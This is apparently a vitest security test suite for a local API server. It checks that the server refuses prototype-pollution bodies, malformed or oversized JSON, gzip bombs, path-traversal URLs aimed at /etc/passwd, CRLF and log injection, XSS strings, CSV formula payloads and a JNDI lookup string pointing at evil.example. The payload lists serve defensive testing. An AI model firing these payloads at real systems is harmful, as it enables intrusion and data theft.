import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { addressOf, allRoutes, changingRoutes, type RequestSchema, type Route } from './all-routes.ts'
import { type AttackedServer, attackServer } from './attacked-server.ts'

let attacked: AttackedServer
let before: string
beforeAll(async () => {
  attacked = await attackServer({ settings: { rateLimits: { perMinute: 1e9, signInsPerMinute: 1e9 } } })
})
beforeEach(async () => {
  before = await attacked.state()
})
afterAll(() => attacked[Symbol.asyncDispose]())

/** As an administrator with a token: nothing but the body is wrong. */
async function post(
  { method, path }: { readonly method: string; readonly path: string },
  body: string | Uint8Array<ArrayBuffer>,
  headers: Readonly<Record<string, string>> = {},
): Promise<{ readonly status: number; readonly detail: string }> {
  const response = await fetch(attacked.server.url + path, {
    method,
    headers: {
      authorization: `Bearer ${attacked.server.admin.token}`,
      'content-type': 'application/json',
      'if-match': '"1"',
      ...headers,
    },
    body,
  })
  const { detail = '' } = (await response.json()) as { readonly detail?: string }
  return { status: response.status, detail }
}

function withBody(): readonly (Route & { readonly body: RequestSchema })[] {
  return changingRoutes(attacked.server.app).flatMap(route =>
    // A file is no JSON.
    route.body?.type === 'object' || route.body?.anyOf !== undefined ? [{ ...route, body: route.body }] : [],
  )
}

/** What has nothing to do with a schema is read in one way on all routes. */
function someWithBody(): ReturnType<typeof withBody> {
  return withBody().slice(0, 4)
}

async function exceptions(
  bodyOf: (json: object) => string | Uint8Array<ArrayBuffer>,
  isRefused: (answer: { readonly status: number; readonly detail: string }) => boolean,
  {
    routes = withBody(),
    headers = {},
  }: { readonly routes?: readonly Route[]; readonly headers?: Record<string, string> } = {},
): Promise<readonly string[]> {
  const open: string[] = []
  for (const route of routes) {
    const { path, method, json } = attacked.requestTo(route)
    // Only bodies that are objects are asked for above.
    const answer = await post({ method, path }, bodyOf(json as object), headers)
    if (!isRefused(answer)) open.push(`${method} ${path}: ${answer.status} ${answer.detail}`)
  }
  return open
}

const isBad = ({ status }: { readonly status: number }): boolean => status === 400

describe('a body', () => {
  it('is taken by many routes', () => {
    expect(withBody().length).toBeGreaterThanOrEqual(10)
  })

  it.each([
    ['isAdmin', true],
    ['userId', 1],
    ['permissions', ['admin.users']],
  ])('with the member %j that nobody declared is refused', async (name, value) => {
    const open = await exceptions(
      json => JSON.stringify({ ...json, [name]: value }),
      ({ status, detail }) => status === 400 && detail.includes('additional properties'),
    )

    expect(open).toEqual([])
    expect(await attacked.state()).toBe(before)
  })

  it('has no object within it to which members could be added', () => {
    const open = withBody().flatMap(({ method, path, body }) =>
      openObjects(body).map(place => `${method} ${path} ${place}`),
    )

    expect(open).toEqual([])
  })

  it.each([
    '"__proto__":{"isAdmin":true}',
    String.raw`"\u005f\u005fproto\u005f\u005f":{"isAdmin":true}`,
    '"constructor":{"prototype":{"isAdmin":true}}',
    '"name":{"__proto__":{"isAdmin":true}}',
  ])('that would change what all objects inherit (%s) is refused', async member => {
    const open = await exceptions(json => JSON.stringify({ ...json, last: 1 }).replace('"last":1', member), isBad)

    expect(open).toEqual([])
    expect(({} as { readonly isAdmin?: boolean }).isAdmin).toBeUndefined()
    expect(await attacked.state()).toBe(before)
  })

  it.each([
    ['null', 'null'],
    ['a list', '[]'],
    ['a list of itself', '[{}]'],
    ['a text', '"x"'],
    ['a number', '1'],
    ['a number without end', '1e999'],
    ['true', 'true'],
    ['nothing', ''],
    ['white space', ' '],
    ['half an object', '{"name":'],
    ['two objects', '{}{}'],
    ['a comment', '/**/{}'],
    ['not a number', '{"name":NaN}'],
    ['single quotes', "{'name':'x'}"],
    ['a byte order mark and nothing', '\uFEFF'],
    ['UTF-16', Buffer.from('{}', 'utf16le').toString('latin1')],
    ['10,000 lists in one another', `${'['.repeat(10_000)}${']'.repeat(10_000)}`],
    ['10,000 objects in one another', `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`],
    ['100,000 members', `{${Array.from({ length: 20_000 }, (_, index) => `"k${index}":1`).join(',')}}`],
    ['a number of 100,000 digits', `{"name":${'9'.repeat(100_000)}}`],
  ])('of %s is refused', async (_, body) => {
    const open = await exceptions(() => body, isBad, { routes: someWithBody() })

    expect(open).toEqual([])
    expect(await attacked.state()).toBe(before)
  })

  it('that is too large is refused', async () => {
    const open = await exceptions(
      json => JSON.stringify({ ...json, name: 'x'.repeat(300_000) }),
      ({ status }) => status === 413,
      { routes: someWithBody() },
    )

    expect(open).toEqual([])
  })

  it.each(['gzip', 'deflate', 'br', 'identity, gzip'])('that says it is packed (%s) is not unpacked', async coding => {
    const bomb = new Uint8Array(gzipSync(Buffer.alloc(10_000_000, ' ')))
    const open = await exceptions(
      () => bomb,
      ({ status }) => status === 400 || status === 415,
      { routes: someWithBody(), headers: { 'content-encoding': coding } },
    )

    expect(open).toEqual([])
    expect(await attacked.state()).toBe(before)
  })
})

describe('an address', () => {
  const oddNumbers = ['0', '-1', '1e9', '1.0', '9007199254740993', '9'.repeat(400), '0x1', 'NaN', '１', '%00', '1%0a']

  it.each(oddNumbers)('with the number %s is refused or leads nowhere', async number => {
    const values = { ...attacked.things, id: number, sessionId: number, tokenId: number, sequence: number }
    const routes = allRoutes(attacked.server.app).filter(
      ({ path, method }) => /\{(id|\w+Id|sequence)\}/.test(path) && (method === 'GET' || method === 'DELETE'),
    )

    const open: string[] = []
    for (const route of routes) {
      const { method, json } = attacked.requestTo(route)
      const path = addressOf(route, values).replaceAll('%25', '%')
      const init = { method, headers: { 'if-match': '"1"' }, ...(json === undefined ? {} : { json }) }
      const { status } = await attacked.server.send(path, init)
      if (status !== 400 && status !== 404) open.push(`${method} ${path}: ${status}`)
    }

    expect(open).toEqual([])
    expect(await attacked.state()).toBe(before)
  })

  it.each([
    ['5,000 members', `?${'a&'.repeat(5_000)}`],
    ['members of what all objects inherit', '?__proto__[isAdmin]=1&constructor.prototype.isAdmin=1&limit=1'],
    ['a member twice', '?limit=1&limit=2'],
    ['a member in brackets', '?limit[]=1'],
    ['a text of 10,000 characters', `?text=${'x'.repeat(10_000)}`],
  ])('with %s is refused', async (_, query) => {
    const { status } = await attacked.server.send(`/api/audit${query}`)

    expect([status, ({} as { readonly isAdmin?: boolean }).isAdmin]).toEqual([400, undefined])
  })

  it('with a pattern that takes long to search is searched as a text', async () => {
    const texts = ['%25'.repeat(66), '_%25'.repeat(50), '(a%2B)%2B$', '%5C'.repeat(200)]

    const statuses = await Promise.all(
      texts.map(async text => (await attacked.server.send(`/api/audit?text=${text}`)).status),
    )

    expect(statuses).toEqual([200, 200, 200, 200])
  })

  const outside = [
    '/../package.json',
    '/..%2fpackage.json',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '/%252e%252e%252fetc%252fpasswd',
    '/..%5c..%5cetc%5cpasswd',
    '/..%c0%af..%c0%afetc/passwd',
    '//etc/passwd',
    '/./../../../../../../etc/passwd',
    '/assets/../../../../etc/passwd',
    '/assets/style.css%00.html',
    '/assets%2f..%2f..%2fserver.ts',
    '/assets/..%2f..%2findex.js',
    '/;/etc/passwd',
    '/api/../../etc/passwd',
    '/file:///etc/passwd',
  ]
  it.each(outside)('does not lead out of the server: %s', async path => {
    const response = await attacked.server.app.inject({
      url: path,
      headers: { host: '127.0.0.1:0', authorization: `Bearer ${attacked.server.admin.token}` },
    })

    expect([400, 404, 421]).toContain(response.statusCode)
    expect(response.body).not.toMatch(/root:|"dependencies"|import /)
  })

  const keys = [
    '..%2f..%2fetc%2fpasswd',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '%252e%252e%252fetc',
    '%2fetc%2fpasswd',
    '..',
    '%2e%2e',
    'C:%5cwindows',
    'a%00b',
    'a%0d%0ab',
    'a%0aINJECTED=1',
    '%E2%80%AEtxt',
    'a%C2%85b',
    '__proto__',
    'constructor',
    'toString',
  ]
  it.each(keys)('does not lead to a file or a member by the key %s', async key => {
    const response = await attacked.server.app.inject({
      url: `/api/secrets/${key}`,
      headers: { host: '127.0.0.1:0', authorization: `Bearer ${attacked.server.admin.token}` },
    })

    expect([400, 404]).toContain(response.statusCode)
    expect(response.body).not.toMatch(/root:|function|kept-secret-value/)
    expect(await attacked.state()).toBe(before)
  })
})

describe('a text', () => {
  const texts = [
    'a\r\nSet-Cookie: a=b',
    'a\nforged log line',
    'a\0b',
    '\u2028next',
    '\u001B[31mred',
    '"}\n{"level":50}',
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '\'"><svg/onload=alert(1)>',
    'javascript:alert(1)',
    '{{constructor.constructor("alert(1)")()}}',
    '=cmd|calc!A0',
    '+1',
    '@SUM(1)',
    '\t=1',
    '${jndi:ldap://evil.example}',
    '%n%s%x',
    '\uD800',
    'a\u202Eb',
  ]

  it.each(texts)('that ends up in headers, logs and lists stays the text %j', async text => {
    const { server } = attacked
    const lines = server.log.length
    const answers = await Promise.all([
      server.send('/api/users', { json: { name: text, role: 'viewer' } }),
      server.send('/api/users/me/tokens', { json: { name: text } }),
      server.send(`/api/audit?text=${encodeURIComponent(text.toWellFormed())}`),
      server.send('/api/session', { as: null, json: { name: text, password: text } }),
    ])

    const injected = answers.filter(({ headers, status }) => headers.has('set-cookie') || status >= 500)
    expect(injected).toEqual([])
    expect(answers.map(({ headers }) => headers.get('content-type')?.split(';')[0])).toEqual(
      answers.map(({ status }) => (status < 400 ? 'application/json' : 'application/problem+json')),
    )
    // One line of JSON each, whatever is in them.
    expect(server.log.slice(lines).every(line => line.endsWith('}\n') && line.split('\n').length === 2)).toBe(true)
    expect(server.failures).toEqual([])
  })

  it('in the log is no formula, no page and no second line when it is exported', async () => {
    const { server } = attacked
    const csv = await (await server.send('/api/audit/export?format=csv')).text()
    const ndjson = await (await server.send('/api/audit/export?format=ndjson')).text()

    expect(csv).not.toMatch(/(^|,)"?[=+@\t]/m)
    expect(() =>
      ndjson
        .trimEnd()
        .split('\n')
        .map(line => JSON.parse(line) as unknown),
    ).not.toThrow()
    expect(await (await server.send('/api/audit/verify')).json()).toMatchObject({ valid: true })
  })
})

it('others are served all the while, and nothing failed', () => {
  expect(attacked.othersAnswered()).toEqual([200])
  expect(attacked.server.failures).toEqual([])
})

/** Where within a schema objects take members that it does not name. */
function openObjects(schema: RequestSchema, place = 'body'): readonly string[] {
  const { properties = {}, items, anyOf = [], type, additionalProperties } = schema
  const isOpen = type === 'object' && additionalProperties !== false && typeof additionalProperties !== 'object'
  return [
    ...(isOpen && !('patternProperties' in schema) ? [place] : []),
    ...Object.entries(properties).flatMap(([name, member]) => openObjects(member, `${place}.${name}`)),
    ...(items === undefined ? [] : openObjects(items, `${place}[]`)),
    ...anyOf.flatMap(choice => openObjects(choice, place)),
  ]
}
